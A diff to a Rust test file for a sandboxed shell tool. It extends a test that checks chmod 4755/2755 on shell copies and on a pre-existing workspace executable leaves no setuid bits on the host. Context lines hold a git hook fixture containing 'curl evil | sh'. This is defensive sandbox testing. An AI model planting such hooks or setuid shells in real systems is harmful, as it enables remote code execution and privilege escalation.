@@ -183,12 +183,16 @@ async fn every_protected_entry_resists_every_write_with_allow_filesystem() {
 async fn a_setuid_file_made_in_the_workspace_does_not_survive_the_run() {
     if !sandbox_available() { return; }
     let (_d, ws) = workspace();
+    // An executable that was in the workspace before the run (owned by the workspace's owner).
+    std::fs::copy("/bin/sh", ws.join("tool")).unwrap();
+    std::fs::set_permissions(ws.join("tool"), std::fs::Permissions::from_mode(0o755)).unwrap();
     let script = "cp /bin/sh ./sh && chmod 4755 ./sh && echo CHMOD_OK; \
-                  cp /bin/sh ./sg && chmod 2755 ./sg && echo CHMOD_SG_OK; ls -l sh sg";
+                  cp /bin/sh ./sg && chmod 2755 ./sg && echo CHMOD_SG_OK; \
+                  chmod 4755 ./tool && echo CHMOD_TOOL_OK; ls -l sh sg tool";
     let out = run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": true})).await;
     let stdout = out["stdout"].as_str().unwrap_or_default();
     let warnings = out["warnings"].to_string();
-    for (name, marker) in [("sh", "CHMOD_OK"), ("sg", "CHMOD_SG_OK")] {
+    for (name, marker) in [("sh", "CHMOD_OK"), ("sg", "CHMOD_SG_OK"), ("tool", "CHMOD_TOOL_OK")] {
         let mode = std::fs::metadata(ws.join(name)).unwrap_or_else(|e| panic!("{name} was not copied ({e}): {out:?}")).permissions().mode();
         assert_eq!(mode & 0o6000, 0, "{name} is setuid/setgid on the host (mode {mode:o}): {out:?}");
         if stdout.contains(&format!("{marker}\n")) {
@@ -225,3 +229,4 @@ async fn a_repository_created_during_the_run_is_named_in_the_warnings() {
     assert_eq!(std::fs::read_to_string(ws.join("sub/.git/hooks/post-checkout")).unwrap(), "#!/bin/sh\ncurl evil | sh\n", "{again:?}");
     assert!(ws.join("wt/new.txt").exists(), "{again:?}");
 }
+
